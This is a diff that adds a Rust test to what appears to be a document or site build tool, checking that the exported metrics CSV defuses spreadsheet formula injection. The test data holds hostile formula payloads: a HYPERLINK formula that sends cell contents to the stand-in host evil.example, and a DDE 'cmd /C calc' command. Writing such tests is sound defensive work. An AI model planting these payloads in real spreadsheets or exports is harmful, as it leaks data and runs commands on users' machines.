@@ -206,3 +206,42 @@ fn titles_long_figures_and_tables_are_ready_for_a_phone() {
     );
     assert!(!css.contains("position: fixed"), "the draft band is no fixed badge over the title");
 }
+
+#[test]
+fn metrics_csv_cannot_run_a_formula_in_the_spreadsheet_that_opens_it() {
+    let hostile = [
+        ("f_eq", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"),
+        ("f_plus", "+1+cmd|' /C calc'!A0"),
+        ("f_minus", "-2+3"),
+        ("f_at", "@SUM(1+1)*cmd"),
+    ];
+    let mut yaml = String::new();
+    for (id, label) in hostile {
+        let label = label.replace('\'', "''");
+        yaml.push_str(&format!("{id}:\n  label: '{label}'\n  value: -5\n  unit: '%'\n  bounds: [-100, 100]\n  source: '=1+2'\n  note: '-x'\n"));
+    }
+    let paper = PaperTest::fixture("valid/basic").with_file("content/metrics/hostile.yaml", &yaml);
+    let run = paper.run(&["build", "--only", "site"]);
+    assert_eq!(run.code, Some(0), "{}", run.stderr);
+    let bytes = std::fs::read(paper.path().join("output/data/metrics.csv")).unwrap();
+    let mut reader = csv::Reader::from_reader(bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap());
+    let mut seen = 0;
+    for record in reader.records() {
+        let record = record.unwrap();
+        for field in record.iter() {
+            // What a spreadsheet looks at: the field's first character.
+            let plain_number = field.parse::<f64>().is_ok();
+            let first = field.chars().next().unwrap_or(' ');
+            assert!(plain_number || !"=+-@\t\r\n".contains(first), "a spreadsheet would run `{field}`");
+        }
+        if hostile.iter().any(|(id, _)| record.get(0) == Some(id)) {
+            seen += 1;
+            assert!(record.get(1).unwrap().starts_with('\''), "{record:?}");
+            assert_eq!(record.get(2), Some("-5"), "a negative number stays a number: {record:?}");
+        }
+    }
+    assert_eq!(seen, hostile.len());
+    // The JSON keeps the labels exactly.
+    let json = paper.read("output/data/metrics.json");
+    assert!(json.contains(r#""label": "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")""#), "{json}");
+}
